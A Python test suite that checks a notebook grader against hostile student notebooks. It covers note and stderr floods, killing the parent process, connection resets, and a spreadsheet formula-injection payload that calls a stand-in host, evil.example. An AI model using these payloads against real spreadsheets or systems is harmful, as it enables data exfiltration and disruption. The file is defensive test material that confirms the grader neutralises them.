"""The grader's own process against one hostile notebook (the grader issue, parts 3 and 6).

Whatever a notebook does, the process that grades it stays bounded: a flood of notes costs
seconds and shows a few; a flood of standard error without a newline costs no memory; a note, an
error or a file name that starts a spreadsheet formula is neutralised in the CSV; a notebook
that kills its worker's parent (the zygote) or resets the connection costs the exercise in
progress, not the notebook. And a folder of other people's notebooks is graded without the
sandbox only when the instructor says so.
"""
import csv
import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

from mlkit.grading import engine, sandbox
from mlkit.grading.report import Report, merge_csv, write_csv
from tests.grading import toy

REPO = Path(__file__).resolve().parents[2]
TOTAL = toy.lesson.total()
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"see your grade")'
FIND_WORKER = ("import gc\n"
               "_worker = next(o for o in gc.get_objects() if type(o).__name__ == 'Worker')\n")


def grade(path, **options):
    return engine.grade(path, lessons={9: toy.lesson}, **options)


def earned(report):
    assert not report.error, report.error
    assert report.possible == TOTAL, "the points possible never depend on what ran"
    return {row.id: row.earned for row in report.exercises}


def hints(report, exercise_id):
    return " | ".join(report.exercise(exercise_id).hints)


def solved(tmp_path, old, new, name="09_toy.ipynb"):
    return toy.write_notebook(tmp_path / name, replace={old: new})


def before_9_2(tmp_path, code):
    """The solved toy notebook with ``code`` at the top level of exercise 9.2's cell."""
    return solved(tmp_path, "def sum_of_squares(values):", code + "\ndef sum_of_squares(values):")


def inside_9_2(tmp_path, code):
    """The solved toy notebook with ``code`` run each time 9.2's function is called."""
    body = "\n".join("    " + line for line in code.splitlines())
    return solved(tmp_path, "    return sum(v * v for v in values)",
                  body + "\n    return sum(v * v for v in values)")


MEASURE = """
import json, resource, sys
from mlkit.grading import engine
from tests.grading import toy
report = engine.grade(sys.argv[1], lessons={9: toy.lesson})
print(json.dumps({"max_rss_mib": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024,
                  "earned": {row.id: row.earned for row in report.exercises},
                  "error": report.error, "notes": report.notes}))
"""


def _grade_measured(path, timeout=300):
    """Grade ``path`` in a fresh process: its peak memory (MiB), points, error and notes."""
    try:
        result = subprocess.run([sys.executable, "-c", MEASURE, str(path)], capture_output=True,
                                text=True, cwd=REPO, timeout=timeout)
    except subprocess.TimeoutExpired:
        pytest.fail(f"grading took more than {timeout} s")
    assert result.returncode == 0, result.stderr[-2000:]
    return json.loads(result.stdout.strip().splitlines()[-1])


def sandbox_kinds():
    kinds = ["none"]
    if sandbox._bwrap_works() is None:
        kinds.append("bwrap")
    return kinds


# ---------------------------------------------------------------------------------------------
# Notes: bounded in number and length, whatever the worker sends

def test_three_hundred_thousand_notes_cost_seconds_and_show_a_few(tmp_path):
    flood = (FIND_WORKER + "_worker.notes.extend('note number %d' % i for i in range(300_000))\n"
             "_worker.notes.append('x' * 2**20)\n")
    started = time.monotonic()
    report = _grade_measured(before_9_2(tmp_path, flood), timeout=120)
    took = time.monotonic() - started
    assert report["error"] == "" and report["earned"] == {"9.1": 2, "9.2": 1, "9.3": 1}, report
    assert took < 45, f"grading took {took:.0f} s"
    notes = report["notes"]
    assert len(notes) <= engine.MAX_NOTES + 1, len(notes)
    assert all(len(note) <= engine.NOTE_LENGTH for note in notes), max(map(len, notes))
    assert notes[-1].endswith("more notes not shown"), notes[-3:]


def test_notes_that_are_not_text_are_ignored(tmp_path):
    path = before_9_2(tmp_path, FIND_WORKER + "_worker.notes = {'a': 1}\n")
    report = grade(path)
    assert earned(report) == {"9.1": 2, "9.2": 1, "9.3": 1}


# ---------------------------------------------------------------------------------------------
# Standard error: read in bounded chunks, never as whole lines

def test_a_gigabyte_of_stderr_without_a_newline_costs_the_grader_no_memory(tmp_path):
    quiet = _grade_measured(toy.write_notebook(tmp_path / "09_quiet.ipynb"))
    flood = ("import os\n_chunk = b'x' * 2**20\n"
             "for _ in range(1024):\n    os.write(2, _chunk)\n")
    loud = _grade_measured(before_9_2(tmp_path, flood))
    assert loud["error"] == "" and loud["earned"] == {"9.1": 2, "9.2": 1, "9.3": 1}, loud
    assert loud["max_rss_mib"] < quiet["max_rss_mib"] + 64, (quiet, loud)


# ---------------------------------------------------------------------------------------------
# The CSV: no cell an instructor's spreadsheet would run as a formula

def _cells(path):
    with open(path, newline="", encoding="utf-8") as file:
        return list(csv.reader(file))


def _assert_no_formula(rows):
    for row in rows:
        for cell in row:
            assert not cell.lstrip(" ").startswith(FORMULA_STARTS), (cell, row)


def test_a_csv_cell_never_starts_a_formula(tmp_path):
    reports = [
        Report(notebook=HOSTILE + ".ipynb", lesson=9, earned=1, possible=4, error=HOSTILE,
               notes=[HOSTILE, "a fine note"]),
        Report(notebook="+1.ipynb", lesson=None, error="-2+3", notes=["@SUM(A1:A9)"]),
        Report(notebook="\tx.ipynb", lesson=None, error="\r=1+1", notes=[" =1+1"]),
    ]
    write_csv(reports, tmp_path / "grades.csv")
    rows = _cells(tmp_path / "grades.csv")
    _assert_no_formula(rows)
    header, first = rows[0], dict(zip(rows[0], rows[1]))
    assert first["submission"].endswith(HOSTILE + ".ipynb")       # the text is all there
    assert first["error"].endswith(HOSTILE)
    assert HOSTILE in first["notes"] and "a fine note" in first["notes"]
    assert (first["total"], first["possible"]) == ("1", "4")        # numbers stay numbers
    assert header[0] == "submission"
    merge_csv([tmp_path / "grades.csv"], tmp_path / "merged.csv")
    _assert_no_formula(_cells(tmp_path / "merged.csv"))


def test_a_note_a_learner_made_is_neutralised_in_the_csv(tmp_path):
    path = before_9_2(tmp_path, FIND_WORKER + f"_worker.notes.append({HOSTILE!r})\n")
    report = grade(path)
    assert earned(report) == {"9.1": 2, "9.2": 1, "9.3": 1}
    write_csv([report], tmp_path / "grades.csv")
    rows = _cells(tmp_path / "grades.csv")
    _assert_no_formula(rows)
    assert HOSTILE in dict(zip(rows[0], rows[1]))["notes"]


# ---------------------------------------------------------------------------------------------
# A lost zygote or a reset connection costs the exercise in progress, not the notebook

KILL_THE_ZYGOTE = "import os\nos.kill(os.getppid(), 9)\nos.kill(os.getpid(), 9)"


@pytest.mark.parametrize("kind", sandbox_kinds())
@pytest.mark.parametrize("where", [before_9_2, inside_9_2], ids=["cell", "function"])
def test_killing_the_zygote_costs_only_that_exercise(tmp_path, monkeypatch, kind, where):
    monkeypatch.setenv("MLKIT_SANDBOX", kind)
    report = grade(where(tmp_path, KILL_THE_ZYGOTE))
    assert earned(report) == {"9.1": 2, "9.2": 0, "9.3": 1}, report
    assert "stopped the grader's Python process" in hints(report, "9.2")


def test_a_notebook_that_keeps_killing_the_zygote_is_stopped(tmp_path, monkeypatch):
    # Where workers get PID namespaces of their own their parent is not the zygote, so only a
    # machine without namespaces lets a notebook reach the zygote: grade as on such a machine.
    monkeypatch.setenv("MLKIT_SANDBOX", "none")
    monkeypatch.setenv("MLKIT_GRADE_NAMESPACES", "0")
    monkeypatch.setattr(engine, "MAX_ZYGOTE_RESTARTS", 1)
    path = toy.write_notebook(tmp_path / "09_toy.ipynb", replace={
        "    return 2 * x\n": "    import os; os.kill(os.getppid(), 9); os.kill(os.getpid(), 9)\n",
        "    return sum(v * v for v in values)":
            "    import os; os.kill(os.getppid(), 9); os.kill(os.getpid(), 9)"})
    report = grade(path)
    assert earned(report) == {"9.1": 0, "9.2": 0, "9.3": 0}
    assert "stopped the grader's Python process" in hints(report, "9.1")
    assert "not checked" in hints(report, "9.3"), hints(report, "9.3")


def test_a_worker_that_resets_its_connection_costs_only_that_exercise(tmp_path, monkeypatch):
    # Once (a file beside the workers' scratch folders remembers it), the 9.2 cell makes its
    # worker stop reading while the grader's next request (the 9.3 cell) waits in its socket,
    # then exit: the grader's read is a connection reset, not an end of file. That costs the
    # request in progress, the 9.3 cell; the others are graded in a fresh worker.
    reset = (FIND_WORKER + "import os, time\n"
             "class _Stalled:\n"
             "    def read(self, count):\n"
             "        time.sleep(1)\n"
             "        return b''\n"
             "if not os.path.exists('../reset-once'):\n"
             "    open('../reset-once', 'w').close()\n"
             "    _worker.channel_in = _Stalled()\n")
    # "once" needs a file that outlives the worker: only without namespaces (with them each
    # worker has a fresh scratch folder, and every worker would reset)
    monkeypatch.setenv("MLKIT_SANDBOX", "none")
    monkeypatch.setenv("MLKIT_GRADE_NAMESPACES", "0")
    report = grade(before_9_2(tmp_path, reset))
    assert earned(report) == {"9.1": 2, "9.2": 1, "9.3": 0}, report
    assert "stopped the grader's Python process" in hints(report, "9.3")


# ---------------------------------------------------------------------------------------------
# Without bubblewrap: one's own notebook, yes; a folder of other people's, only when asked

LEARNER = REPO / "lessons" / "01_logic_gates.ipynb"


@pytest.fixture(scope="module")
def two_notebooks(tmp_path_factory):
    folder = tmp_path_factory.mktemp("class")
    for name in ("alice", "bob"):
        (folder / f"01_{name}.ipynb").write_bytes(LEARNER.read_bytes())
    return folder


def mlkit_grade(*args, sandbox_env="none", tmp_path=None):
    environment = dict(os.environ, MLKIT_SANDBOX=sandbox_env)
    if sandbox_env == "auto":         # a machine without bubblewrap: no bwrap on the PATH
        environment["PATH"] = str(tmp_path)
    return subprocess.run([sys.executable, "-m", "mlkit.cli", "grade", *map(str, args)],
                          capture_output=True, text=True, cwd=REPO, env=environment,
                          timeout=600)


@pytest.mark.parametrize("sandbox_env", ["none", "auto"])
@pytest.mark.parametrize("what", ["folder", "files"])
def test_a_class_without_the_sandbox_is_refused_unless_asked_for(two_notebooks, tmp_path,
                                                                 sandbox_env, what):
    paths = [two_notebooks] if what == "folder" else sorted(two_notebooks.glob("*.ipynb"))
    refused = mlkit_grade(*paths, "--csv", tmp_path / "g.csv", sandbox_env=sandbox_env,
                          tmp_path=tmp_path)
    assert refused.returncode == 2, (refused.stdout, refused.stderr)
    message = refused.stderr.strip()
    assert len(message.splitlines()) == 1, message
    assert "apt-get install bubblewrap" in message and "--no-sandbox" in message, message
    assert "Traceback" not in message and not (tmp_path / "g.csv").exists()


@pytest.mark.parametrize("sandbox_env", ["none", "auto"])
def test_a_class_without_the_sandbox_is_graded_when_asked_for(two_notebooks, tmp_path,
                                                              sandbox_env):
    result = mlkit_grade(two_notebooks, "--no-sandbox", "--csv", tmp_path / "g.csv",
                         "-j", "1", sandbox_env=sandbox_env, tmp_path=tmp_path)
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader((tmp_path / "g.csv").open()))
    assert sorted(Path(row["submission"]).name for row in rows) == ["01_alice.ipynb",
                                                                   "01_bob.ipynb"]
    assert all(row["error"] == "" and float(row["possible"]) > 0 for row in rows)
    assert "no sandbox" in result.stderr


def test_ones_own_notebook_is_graded_without_the_sandbox_with_a_note(tmp_path):
    result = mlkit_grade(LEARNER, sandbox_env="auto", tmp_path=tmp_path)
    assert result.returncode == 0, result.stderr
    assert "hint: not done yet" in result.stdout
    assert "no sandbox" in result.stderr and "apt-get install bubblewrap" in result.stderr
